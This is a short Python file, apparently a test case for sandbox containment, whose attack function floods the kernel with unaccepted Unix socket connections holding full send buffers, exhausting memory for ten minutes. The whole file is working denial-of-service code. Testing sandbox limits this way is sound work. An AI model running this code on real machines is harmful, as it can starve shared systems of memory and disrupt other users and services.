"""Connections that nobody accepts hold what was sent, though their senders are closed. Contained at: bwrap, landlock, limits."""
import socket
import time


def attack():
    block, kept = b"x" * 65536, []
    for number in range(60):
        try:
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(f"\0queue{number}")
        except OSError:
            return False
        listener.listen(4096)
        kept.append(listener)
        for _ in range(4000):
            with socket.socket(socket.AF_UNIX) as sender:
                sender.setblocking(False)
                try:
                    sender.connect(f"\0queue{number}")
                    while sender.send(block):
                        pass
                except OSError:
                    continue
    time.sleep(600)
    return True
